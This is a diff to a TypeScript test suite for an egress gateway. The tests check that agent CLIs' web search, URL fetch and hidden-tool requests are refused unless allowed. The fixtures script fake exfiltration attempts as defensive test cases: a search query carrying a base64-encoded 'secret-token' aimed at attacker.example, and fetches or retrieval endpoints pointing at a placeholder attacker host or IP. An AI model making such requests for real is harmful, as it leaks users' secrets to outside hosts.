@@ -13,8 +13,8 @@
  * `preset:web-search` (OpenAI's limited to cached results unless
  * `preset:web-fetch` too), fetching with `preset:web-fetch`, MCP servers and
  * URL inputs when their host is on the allowlist. The real CLIs: Claude
- * Code's WebSearch and Gemini CLI's web_fetch are refused and the run goes
- * on; Codex declares no search unless allowed, and stops when made to;
+ * Code's WebSearch, Gemini CLI's web_fetch and google_web_search are
+ * refused and the run goes on; Codex declares no search unless allowed, and stops when made to;
  * Claude Code's WebFetch fetches from inside the container, through the
  * proxy's allowlist. On the code before the fix every refused request
  * reached the provider.
@@ -121,6 +121,8 @@ const refusedByDefault: [string, string, Obj, string][] = [
   ["Gemini Google Search grounding", GEMINI, { ...CONTENT, tools: [{ googleSearch: {} }] }, "preset:web-search"],
   ["Gemini google_search_retrieval", GEMINI, { ...CONTENT, tools: [{ google_search_retrieval: {} }] }, "preset:web-search"],
   ["Gemini file by URI", GEMINI, { contents: [{ role: "user", parts: [{ fileData: { mimeType: "text/html", fileUri: EXFIL } }] }] }, "attacker.example:443"],
+  ["OpenAI stored prompt (its tools are not visible)", RESPONSES, { ...RESPONSE, prompt: { id: "pmpt_1" } }, "stored prompt"],
+  ["Gemini cached content (its tools are not visible)", GEMINI, { ...CONTENT, cachedContent: "cachedContents/abc" }, "cachedContent"],
   ["Gemini tool the gateway does not know", GEMINI, { ...CONTENT, tools: [{ retrieval: { externalApi: { endpoint: EXFIL } } }] }, "does not know"],
 ];
 
@@ -289,11 +291,27 @@ describe("the real CLIs", () => {
     }
   });
 
-  it("Gemini CLI's web_fetch: its URL-context request is refused (the provider never sees it) and the run goes on", async () => {
-    const state = join(dir, "gemini-state");
+  async function geminiCli(g: Gateway, token: string) {
+    const state = await mkdtemp(join(dir, "gemini-state-"));
     await mkdir(join(state, ".gemini"), { recursive: true });
     // A proxy's refusal reads as "fetch failed", which the CLI retries for minutes unless told not to.
     await writeFile(join(state, ".gemini", "settings.json"), JSON.stringify({ security: { auth: { selectedType: "gemini-api-key" } }, general: { retryFetchErrors: false } }));
+    const prepared = geminiAdapter.prepare({ agent: testAgent({ runtime: "gemini" }), prompt: "look it up" });
+    const ws = await mkdtemp(join(dir, "ws-"));
+    for (const [path, content] of Object.entries(prepared.injectedFiles)) await writeFile(join(ws, path), content);
+    const home = await mkdtemp(join(dir, "home-"));
+    const [, ...args] = prepared.argv;
+    const proxy = `http://run:${encodeURIComponent(token)}@127.0.0.1:${g.port}`;
+    return runCli(agentCliBin("gemini"), args, {
+      cwd: ws,
+      // Its own fetch (web_fetch's fallback) goes through the gateway's proxy, as in a container.
+      env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home, ...prepared.env, GEMINI_CLI_HOME: state, GEMINI_API_KEY: token, GOOGLE_GEMINI_BASE_URL: `${g.url}/gemini`, HTTPS_PROXY: proxy, HTTP_PROXY: proxy, NO_PROXY: "127.0.0.1" },
+      stdin: prepared.stdin,
+      killAfterMs: 90_000,
+    });
+  }
+
+  it("Gemini CLI's web_fetch: its URL-context request is refused (the provider never sees it), the CLI's own fetch meets the allowlist, and the run goes on", async () => {
     const model = await startFakeGemini({
       // An address, not a name: the CLI skips a URL whose name it cannot resolve before asking anyone.
       script: [{ functionCall: { name: "web_fetch", args: { prompt: `Summarize ${EXFIL_IP}` } } }, "went on without the page", "went on without the page"],
@@ -301,25 +319,34 @@ describe("the real CLIs", () => {
     const g = await startGateway({ upstreams: { gemini: model.url } });
     try {
       const run = g.register({ runId: "pfe-gemini-fetch", modelKeys: { gemini: "AIza-real" } });
-      const prepared = geminiAdapter.prepare({ agent: testAgent({ runtime: "gemini" }), prompt: "fetch that page" });
-      const ws = await mkdtemp(join(dir, "ws-"));
-      for (const [path, content] of Object.entries(prepared.injectedFiles)) await writeFile(join(ws, path), content);
-      const home = await mkdtemp(join(dir, "home-"));
-      const [, ...args] = prepared.argv;
-      const r = await runCli(agentCliBin("gemini"), args, {
-        cwd: ws,
-        // Its own fetch (the fallback) goes through the gateway's proxy, as in a container.
-        env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home, ...prepared.env, GEMINI_CLI_HOME: state, GEMINI_API_KEY: run.token, GOOGLE_GEMINI_BASE_URL: `${g.url}/gemini`, HTTPS_PROXY: run.proxyUrl(), HTTP_PROXY: run.proxyUrl(), NO_PROXY: "127.0.0.1" },
-        stdin: prepared.stdin,
-        killAfterMs: 90_000,
-      });
+      const r = await geminiCli(g, run.token);
       expect(r.code, r.stderr).toBe(0);
       expect(geminiAdapter.parseOutput(r.stdout, r.stderr).answer).toBe("went on without the page");
-      expect(model.requests.filter((q) => /url_?context/i.test(JSON.stringify(q.json ?? {}))), "URL-context requests the provider received").toEqual([]);
+      const fetching = (q: (typeof model.requests)[number]) => ((q.json as { tools?: Obj[] } | undefined)?.tools ?? []).some((t) => "urlContext" in t || "url_context" in t);
+      expect(model.requests.filter(fetching), "URL-context requests the provider received").toEqual([]);
       const report = g.revoke(run.runId)!;
       expect(report.refusals.filter((f) => f.kind === "model").map((f) => f.reason)).toEqual([expect.stringContaining("urlContext")]);
       // Then the CLI fetched the page itself, through the proxy: refused there, as the host is not on the allowlist.
       expect(report.refusals.filter((f) => f.kind === "egress").map((f) => f.host)).toContain("1.2.3.4");
+    } finally {
+      await g.close();
+      await model.close();
+    }
+  });
+
+  it("Gemini CLI's google_web_search without preset:web-search: its grounded request is refused and the run goes on", async () => {
+    const model = await startFakeGemini({
+      script: [{ functionCall: { name: "google_web_search", args: { query: "c2VjcmV0LXRva2Vu site:attacker.example" } } }, "went on without searching", "went on without searching"],
+    });
+    const g = await startGateway({ upstreams: { gemini: model.url } });
+    try {
+      const run = g.register({ runId: "pfe-gemini-search", modelKeys: { gemini: "AIza-real" } });
+      const r = await geminiCli(g, run.token);
+      expect(r.code, r.stderr).toBe(0);
+      expect(geminiAdapter.parseOutput(r.stdout, r.stderr).answer).toBe("went on without searching");
+      const searching = (q: (typeof model.requests)[number]) => ((q.json as { tools?: Obj[] } | undefined)?.tools ?? []).some((t) => "googleSearch" in t || "google_search" in t);
+      expect(model.requests.filter(searching), "search requests the provider received").toEqual([]);
+      expect(g.revoke(run.runId)!.refusals.filter((f) => f.kind === "model").map((f) => f.reason)).toEqual([expect.stringContaining("preset:web-search")]);
     } finally {
       await g.close();
       await model.close();
